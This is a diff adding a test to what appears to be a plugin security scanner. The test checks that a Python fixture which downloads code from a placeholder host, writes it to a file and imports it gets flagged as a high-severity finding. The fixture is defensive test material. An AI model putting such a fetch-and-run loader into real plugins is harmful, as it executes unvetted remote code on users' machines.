@@ -183,3 +183,27 @@ test('honest data files give no findings: JSON, prose, Qt .ui XML, images, CSS',
 	);
 	assert.equal(high(report).length, 0);
 });
+
+test('writing a file of code at run time is high: what it will run was never scanned', async () => {
+	const dir = plugin({
+		'__init__.py': [
+			'import os, importlib, urllib.request',
+			'HERE = os.path.dirname(__file__)',
+			'def refresh():',
+			'    source = urllib.request.urlopen("https://example.invalid/ext.py").read()',
+			'    with open(os.path.join(HERE, "ext_loader.py"), "wb") as fh:',
+			'        fh.write(source)',
+			'    importlib.import_module(__name__ + ".ext_loader")',
+			'def save(values):',
+			'    with open(os.path.join(HERE, "cache.json"), "w") as fh:',
+			'        fh.write(values)',
+			'',
+		].join('\n'),
+	});
+	const report = await scan(dir);
+	const unknown = report.findings.filter((f) => f.ruleId === 'code-load-unknown');
+	assert.deepEqual(
+		unknown.map((f) => `${f.file}:${f.line}:${f.severity}`),
+		['__init__.py:5:high'],
+	);
+});
